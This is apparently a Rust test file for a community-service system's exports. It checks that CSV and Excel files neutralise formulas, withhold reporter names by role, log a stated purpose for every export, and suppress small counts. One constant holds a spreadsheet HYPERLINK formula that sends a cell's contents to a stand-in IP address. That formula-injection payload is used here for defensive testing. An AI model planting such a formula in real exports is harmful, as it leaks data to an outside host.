//! Exports: what leaves, in which form, and what is written down before it does.

use std::collections::BTreeMap;
use std::io::Read;
use std::process::Command;

use serde_json::{Value, json};
use sync_protocol::role::Role;
use wuyuan_server::exports::{self, Format, Order, What};
use wuyuan_server::figures::FigureError;
use wuyuan_server::figures::period::Period;
use wuyuan_server::query;
use wuyuan_server::store::rows::AccessRow;
use wuyuan_tests::engine::record;
use wuyuan_tests::on_both_backends;
use wuyuan_tests::phones::Phone;
use wuyuan_tests::workspace;

use crate::office::{Office, act, report as lead, with};

/// What a spreadsheet would carry out.
const FORMULA: &str = "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"看\")";

fn order(phone: &Phone, what: What, format: Format) -> Order {
    Order {
        member: phone.holder.member,
        what,
        format,
        unit: None,
        purpose: "十月例会".to_owned(),
    }
}

fn made(office: &Office, order: &Order) -> Vec<u8> {
    let mut made = exports::make(&office.engine.app, order).expect("an export is made");
    let mut bytes = Vec::new();
    made.file.read_to_end(&mut bytes).expect("a file can be read");
    assert_eq!(bytes.len() as u64, made.bytes);
    bytes
}

fn leads(sensitive: bool) -> What {
    What::Records {
        kind: "photo_report".to_owned(),
        sensitive,
    }
}

fn october() -> Period {
    Period::parse("2026-10").expect("a month")
}

/// The workbook as another program reads it: the cells of each sheet, each with its type (`s` text, `n` number, `f` formula).
fn opened(workbook: &[u8]) -> BTreeMap<String, Vec<Vec<(String, Value)>>> {
    const SCRIPT: &str = "import sys, json, openpyxl\n\
        book = openpyxl.load_workbook(sys.argv[1])\n\
        cells = lambda row: [[cell.data_type, cell.value] for cell in row]\n\
        print(json.dumps({sheet.title: [cells(row) for row in sheet.iter_rows()] for sheet in book}))";
    let folder = tempfile::tempdir().expect("a temporary folder");
    let path = folder.path().join("export.xlsx");
    std::fs::write(&path, workbook).expect("a file can be written");
    let python = workspace::target().join("python/bin/python");
    assert!(python.is_file(), "{} is missing: run `scripts/setup`", python.display());
    let output = Command::new(python)
        .args(["-c", SCRIPT])
        .arg(&path)
        .output()
        .expect("Python starts");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    serde_json::from_slice(&output.stdout).expect("the script writes JSON")
}

fn entries(office: &Office) -> Vec<AccessRow> {
    let all = office.engine.read(|db| query!(db, access_log::page(&[0; 16], 500)));
    all.into_iter().filter(|row| row.kind.starts_with("export:")).collect()
}

fn with_lead(backend: wuyuan_tests::backend::Backend) -> Office {
    let office = Office::open(backend, "2026-10-12T09:00:00+08:00");
    let mut volunteer = office.volunteer.clone();
    let draft = with(
        lead(&volunteer, FORMULA),
        &[
            ("reporter_name", json!("演示举报人")),
            ("place_text", json!("+1 号楼, \"东门\"\n二层")),
        ],
    );
    office.write(&mut volunteer, act(draft, "submit"));
    office.catch_up();
    office
}

on_both_backends! {
    fn a_formula_in_a_text_is_inert_in_both_formats(backend) {
        let office = with_lead(backend);
        let csv = made(&office, &order(&office.prosecutor, leads(false), Format::Csv));
        assert!(csv.starts_with("\u{feff}记录编号,".as_bytes()), "Excel knows it as UTF-8 by the mark");
        let text = String::from_utf8(csv).expect("UTF-8");
        assert!(text.contains(&format!("\"'{}\"", FORMULA.replace('"', "\"\""))), "{text}");
        assert!(text.contains("\"'+1 号楼, \"\"东门\"\"\n二层\""), "{text}");
        let workbook = opened(&made(&office, &order(&office.prosecutor, leads(false), Format::Xlsx)));
        let rows = &workbook["公益诉讼随手拍"];
        let cells: Vec<&(String, Value)> = rows.iter().flatten().collect();
        assert!(cells.iter().any(|cell| cell.1 == json!(FORMULA) && cell.0 == "s"), "{rows:?}");
        assert!(cells.iter().all(|cell| cell.0 != "f"));
    }

    fn fields_that_the_caller_does_not_read_stay_and_sensitive_ones_are_asked_for(backend) {
        let office = with_lead(backend);
        let text = |phone: &Phone, sensitive| {
            String::from_utf8(made(&office, &order(phone, leads(sensitive), Format::Csv))).expect("UTF-8")
        };
        assert!(!text(&office.prosecutor, false).contains("演示举报人"));
        assert!(text(&office.prosecutor, true).contains("演示举报人"));
        assert!(!text(&office.chief, true).contains("演示举报人"), "the reporter is known to the prosecutor alone");
        let leader = text(&office.leader, true);
        assert!(leader.contains("消防通道被占") && !leader.contains("演示举报人"));
        let refused = exports::make(&office.engine.app, &order(&office.volunteer, leads(false), Format::Csv));
        assert_eq!(refused.err(), Some(FigureError::Forbidden), "who reads only his own exports no list");
        let entries = entries(&office);
        let told: Vec<(&str, i64, bool)> =
            entries.iter().map(|e| (e.kind.as_str(), e.records, e.fields.contains("reporter_name"))).collect();
        let kind = "export:records:photo_report";
        assert_eq!(told, [(kind, 1, false), (kind, 1, true), (kind, 1, false), (kind, 1, false)]);
        let ids: Vec<&[u8]> = entries.iter().map(|entry| entry.id.as_slice()).collect();
        let purposes = office.engine.read(|db| query!(db, reports::purposes(&ids)));
        assert!(purposes.iter().all(|(_, format, purpose)| format == "csv" && purpose == "十月例会"));
        assert_eq!(purposes.len(), 4);
    }

    fn nothing_leaves_without_a_purpose_or_unwritten(backend) {
        let office = with_lead(backend);
        let mut order = order(&office.prosecutor, leads(false), Format::Csv);
        order.purpose = "  例会 ".to_owned();
        assert!(matches!(exports::make(&office.engine.app, &order), Err(FigureError::Invalid(_))));
        assert!(entries(&office).is_empty());
        // The access log cannot be written: no file.
        order.purpose = "十月例会".to_owned();
        office.engine.change("ALTER TABLE export_purpose RENAME TO elsewhere");
        assert!(exports::make(&office.engine.app, &order).is_err());
        office.engine.change("ALTER TABLE elsewhere RENAME TO export_purpose");
        assert!(entries(&office).is_empty(), "and nothing half written");
        assert!(exports::make(&office.engine.app, &order).is_ok());
    }

    fn a_report_bears_its_definitions_and_hides_small_cells(backend) {
        let office = with_lead(backend);
        let mut leader = office.leader.clone();
        for category in ["correction", "correction", "bail", "bail", "bail"] {
            let set = [("alias", json!("演示某甲")), ("category", json!(category)), ("period_from", json!("2026-10-01"))];
            let draft = with(leader.draft("subject", record()), &set);
            office.write(&mut leader, draft);
        }
        office.catch_up();
        let what = What::Report { period: october(), issued: false };
        let workbook = opened(&made(&office, &order(&office.chief, what.clone(), Format::Xlsx)));
        let rows = &workbook["指标"];
        let row = |code: &str, sort: &str| -> Vec<Value> {
            let found = rows.iter().find(|row| row[2].1 == json!(code) && row[3].1 == json!(sort));
            found.unwrap_or_else(|| panic!("{code} {sort}: {rows:?}")).iter().map(|cell| cell.1.clone()).collect()
        };
        assert_eq!(row("bail_in_charge", "合计")[5], json!(3));
        assert_eq!(row("correction_on_register", "合计")[5], json!("<3"), "two people are not told");
        assert_eq!(row("leads_reported", "合计")[5], json!(1), "leads are no people");
        assert_eq!(row("leads_by_field", "安全生产")[5], json!(1));
        assert_eq!(row("leads_feedback_rate", "合计")[5..8], [json!(0), json!(0), json!(1)]);
        let told = rows[1..].iter().filter(|row| row[3].1 == json!("合计"));
        assert!(told.clone().count() > 45 && told.clone().all(|row| row[11].1.as_str().is_some_and(|t| !t.is_empty())));
        assert_eq!(workbook["说明"][0][1].1, json!("2026-10"));
        let csv = String::from_utf8(made(&office, &order(&office.chief, what, Format::Csv))).expect("UTF-8");
        assert!(csv.contains("在册的社区矫正对象") && csv.contains("<3"));
    }

    fn hours_and_deadlines_leave_as_lists_too(backend) {
        let office = Office::open(backend, "2026-10-12T09:00:00+08:00");
        let people: Vec<_> = (0..3).map(|_| (record(), record())).collect();
        office.engine.post_service(&office.unit, &people, 300, "2026-10-11");
        let ledger = |ledger: &str| What::Hours { ledger: ledger.to_owned(), period: october() };
        let rows = &opened(&made(&office, &order(&office.prosecutor, ledger("social_service"), Format::Xlsx)))["入账"];
        assert_eq!(rows.len(), 4);
        assert_eq!((rows[1][5].1.clone(), rows[1][6].1.clone()), (json!(100), json!(1.66)), "rounded down");
        // Whose they are is for who reads the persons' records: no leader of the community, no area manager.
        let refused = exports::make(&office.engine.app, &order(&office.leader, ledger("social_service"), Format::Csv));
        assert!(matches!(refused, Err(FigureError::Forbidden)), "{refused:?}");
        let none = made(&office, &order(&office.prosecutor, ledger("volunteer"), Format::Csv));
        assert_eq!(String::from_utf8(none).expect("UTF-8").lines().count(), 1);
        let mut volunteer = office.volunteer.clone();
        let me = volunteer.holder.member;
        let draft = crate::office::session(&volunteer, me, "2026-09-28T17:30:00+08:00");
        office.write(&mut volunteer, draft);
        office.catch_up();
        let board = made(&office, &order(&volunteer, What::Deadlines { standing: None }, Format::Csv));
        let board = String::from_utf8(board).expect("UTF-8");
        assert!(board.contains("志愿服务时长录入") && board.contains("2026-10-16") && board.contains("未到期"), "{board}");
        let other = office.engine.member(Role::Volunteer, &office.unit, 1).id;
        let mut order = order(&volunteer, What::Deadlines { standing: None }, Format::Csv);
        order.member = other;
        assert_eq!(String::from_utf8(made(&office, &order)).expect("UTF-8").lines().count(), 1);
    }
}
